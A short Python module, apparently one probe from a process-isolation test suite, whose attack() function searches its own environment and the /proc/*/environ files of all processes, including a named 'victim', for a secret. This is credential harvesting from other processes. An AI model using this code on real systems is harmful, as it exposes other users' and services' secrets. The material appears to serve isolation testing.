"""The environment, its own and everybody's."""
# ruff: noqa

import glob, os


def attack():
    found = hunt(repr(os.environ))
    for path in glob.glob("/proc/*/environ") + ["/proc/self/environ", f"/proc/{FACTS['victim']}/environ"]:
        try:
            found = found or hunt(open(path, "rb").read())
        except OSError:
            pass
    return found
